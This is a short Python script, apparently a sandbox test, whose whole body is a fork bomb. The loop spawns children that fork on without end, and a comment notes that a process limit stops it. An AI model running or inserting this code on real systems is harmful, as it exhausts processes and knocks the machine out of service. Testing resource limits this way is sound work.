import os
import time

from honest_net import Net  # noqa: F401

while True:  # a fork bomb: every child forks on; the sandbox's process limit makes the first parent's fork fail
    if os.fork() == 0:
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(0.05)
